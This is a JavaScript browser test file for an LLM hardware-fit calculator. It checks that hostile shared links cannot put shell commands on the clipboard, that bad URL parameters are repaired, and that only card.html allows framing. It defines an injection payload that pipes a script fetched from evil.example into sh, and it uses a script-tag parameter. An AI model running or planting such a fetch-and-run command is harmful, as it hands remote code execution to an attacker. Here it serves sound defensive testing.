// Hostile links in Chromium: a shared link cannot put shell syntax on the clipboard,
// every page repairs bad URL state and renders with a note, and only the fit card may
// be framed by another origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serve, launch, ready, shot } from './harness.mjs';

let server, ctx;
before(async () => { server = await serve(); ctx = await launch(); });
after(async () => { await ctx?.close(); await server?.stop(); });

async function open(path, width = 1200) {
  const page = await ctx.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.setViewportSize({ width, height: 900 });
  await page.goto(server.url + path);
  await ready(page);
  return { page, errors };
}

const PAYLOAD = 'q; curl -s http://evil.example/y.sh | sh; #';

test('a hostile quant_spec link shows a note and never a command with the payload', async () => {
  await ctx.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.url });
  const spec = JSON.stringify({ id: PAYLOAD, bits: 4, bpw_body: 4.8, bpw_embed: 4.5, bpw_output: 6.5 });
  const { page, errors } = await open(`?model=llama-3.1-8b-instruct&hardware=rtx-4090&quant_spec=${encodeURIComponent(spec)}`);
  assert.deepEqual(errors, []);
  const message = await page.textContent('#message');
  assert.match(message, /quant/);
  const commands = await page.$$eval('#commands pre', (els) => els.map((e) => e.textContent));
  assert.ok(commands.length > 0, 'the repaired result still has commands');
  for (const text of commands) assert.ok(!text.includes('curl') && !text.includes('evil'), text);
  await page.click('#commands button.copy');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(!copied.includes('curl'), copied);
  await shot(page, 'hostile-link-repaired');
});

test('device, model and compare pages repair bad parameters and say so', async () => {
  const { page, errors } = await open('device.html?hardware=rtx-4090&gpus=abc&mode=nope');
  assert.deepEqual(errors, []);
  assert.ok(await page.locator('#ranking tbody tr').count() > 10, 'the ranking renders');
  assert.match(await page.textContent('#message'), /gpus.*mode|mode.*gpus/s);
  assert.equal(await page.inputValue('#mode'), 'balanced');
  const mac = await open('device.html?hardware=apple-m2-ultra-128gb&gpus=8');
  assert.ok(await mac.page.locator('#ranking tbody tr').count() > 10);
  assert.match(await mac.page.textContent('#message'), /one memory pool/);
  const model = await open('model.html?id=qwen3-8b&workload=%3Cscript%3E&mode=nope');
  assert.ok(await model.page.locator('#tiers .tier').count() > 0);
  assert.match(await model.page.textContent('#message'), /workload/);
  const cmp = await open('compare.html?s=qwen3-8b,rtx-4090,NOPE&s=llama-3.1-8b-instruct,l40,');
  assert.equal(await cmp.page.locator('#compare table').count(), 2);
  assert.match(await cmp.page.textContent('#compare'), /quant/);
  const calc = await open('?model=llama-3.1-8b-instruct&hardware=apple-m4-max-40c-128gb&gpus=4');
  assert.match(await calc.page.textContent('#message'), /gpus/);
  assert.ok(await calc.page.locator('#verdict').count() === 1);
});

test('only card.html may be framed; every other page refuses framing by HTTP header', async () => {
  for (const path of ['', 'index.html', 'device.html', 'model.html', 'compare.html', 'custom.html', 'accuracy.html']) {
    const res = await fetch(server.url + path);
    assert.equal(res.headers.get('x-frame-options'), 'DENY', path);
    assert.match(res.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/, path);
  }
  const card = await fetch(`${server.url}card.html`);
  assert.equal(card.headers.get('x-frame-options'), null);
  assert.match(card.headers.get('content-security-policy'), /frame-ancestors \*/);
});
